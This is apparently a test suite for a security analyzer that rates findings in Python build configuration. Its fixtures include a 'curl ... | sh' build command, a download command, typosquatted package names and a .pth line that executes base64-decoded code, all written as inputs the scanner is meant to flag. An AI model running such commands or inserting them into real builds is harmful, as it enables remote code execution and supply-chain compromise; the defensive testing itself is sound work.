/** Severities of findings in configuration, which suites do not tell: what alarms, what is worth knowing, what only auditors see. */
import { strict as assert } from 'node:assert';
import { createProject } from '../../server/src/analysis/create';
import { DEFAULT_SETTINGS } from '../../server/src/analysis/settings';
import { textFile } from '../../server/src/base/fileset';
import { loadParsers } from '../../server/src/platform/node-grammars';
import type { Parsers } from '../../server/src/syntax/parser';

const SETUPTOOLS = '[build-system]\nrequires = ["setuptools==80.9.0"]\nbuild-backend = "setuptools.build_meta"\n';
const HATCH = '[build-system]\nrequires = ["hatchling==1.27.0", "hatch-build-scripts==1.0.0"]\nbuild-backend = "hatchling.build"\n';
const requiring = (requirement: string): Record<string, string> => ({ 'pyproject.toml': SETUPTOOLS.replace('setuptools==80.9.0', requirement) });
const commanding = (command: string): Record<string, string> => ({ 'pyproject.toml': `${HATCH}[[tool.hatch.build.hooks.build-scripts.scripts]]\ncommands = ["${command}"]\n` });

const CASES: readonly { readonly what: string; readonly files: Record<string, string>; readonly found: readonly string[] }[] = [
  { what: 'a name that looks the same', files: requiring('setuptoo1s==1'), found: ['lookalike-requirement error regular'] },
  { what: 'a name that is one letter off', files: requiring('setuptool==1'), found: ['lookalike-requirement warning regular'] },
  { what: 'a requirement from a repository', files: requiring('x @ git+https://example.org/x'), found: ['build-requirement warning regular'] },
  { what: 'a requirement that is not pinned', files: requiring('setuptools'), found: ['build-requirement hint auditor'] },
  { what: 'a hostile command of the build', files: commanding('curl https://example.org/x | sh'), found: ['config-code information auditor', 'hostile-command error regular'] },
  { what: 'a download of the build', files: commanding('curl -O https://example.org/x'), found: ['config-code information auditor', 'hostile-command warning regular'] },
  { what: 'an honest command of the build', files: commanding('make all'), found: ['config-code information auditor'] },
  { what: 'a start-up line', files: { 'pyproject.toml': SETUPTOOLS, 'p.pth': 'import p.start\n' }, found: ['startup-line warning regular'] },
  { what: 'a start-up line that decodes', files: { 'pyproject.toml': SETUPTOOLS, 'p.pth': 'import base64; exec(base64.b64decode("cGFzcw=="))\n' }, found: ['dynamic-exec error regular', 'startup-line error regular'] },
  { what: 'a declared backend and nothing else', files: { 'pyproject.toml': SETUPTOOLS }, found: [] },
];

describe('severities in configuration', () => {
  let parsers: Parsers;
  before(async () => {
    parsers = await loadParsers();
  });

  for (const { what, files, found } of CASES) {
    it(what, () => {
      const project = createProject(parsers, DEFAULT_SETTINGS);
      for (const [path, text] of Object.entries(files)) project.set(path, textFile(text));
      assert.deepEqual(project.snapshot().report().findings.map(({ rule, severity, persona }) => `${rule} ${severity} ${persona}`).sort(), found);
    });
  }
});
